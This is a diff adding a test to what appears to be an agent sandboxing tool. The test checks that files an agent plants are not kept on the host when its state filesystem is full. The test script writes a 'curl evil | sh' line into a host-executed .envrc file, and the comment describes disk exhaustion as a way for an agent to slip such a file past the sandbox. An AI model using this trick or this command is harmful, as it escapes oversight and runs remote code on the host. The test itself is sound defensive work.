@@ -311,3 +311,27 @@ def test_audit_shows_what_was_held(hutch: Hutch, project: Path) -> None:
 def test_nested_repositories_are_reported_prominently(hutch: Hutch, project: Path) -> None:
     result = sh(hutch, project, "mkdir -p vendor/lib && git -C vendor/lib init -q")
     assert "vendor/lib/.git" in result.stderr and "repo" in result.stderr
+
+
+def test_a_full_state_dir_keeps_nothing_from_the_host_and_the_status(
+    engine: Engine, hutch: Hutch, project: Path
+) -> None:
+    # The .git layer lives in hutch's state dir: an agent can fill that file
+    # system by writing into .git, then plant a host-executed file that hutch
+    # has no room left to set aside. It must leave the project all the same.
+    repo(engine, project)
+    saved = hutch.root / "state-copy"
+    subprocess.run(["cp", "-a", f"{hutch.state}/.", str(saved)], check=True)
+    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size=4m,mode=0700,uid={engine.uid},gid={engine.gid}",
+                    "tmpfs", str(hutch.state)], check=True)  # fmt: skip
+    try:
+        subprocess.run(["cp", "-a", f"{saved}/.", str(hutch.state)], check=True)
+        script = "head -c 16000000 /dev/zero > .git/fill; echo 'curl evil | sh' > .envrc; exit 3"
+        result = sh(hutch, project, script)
+        assert result.returncode == 3, result.stderr
+        assert "Traceback" not in result.stderr
+        assert "could not be kept" in result.stderr, result.stderr  # the full-disk path was taken
+        assert not (project / ".envrc").exists()
+        assert not (project / ".git" / "fill").exists()
+    finally:
+        subprocess.run(["umount", "-l", str(hutch.state)], check=False)
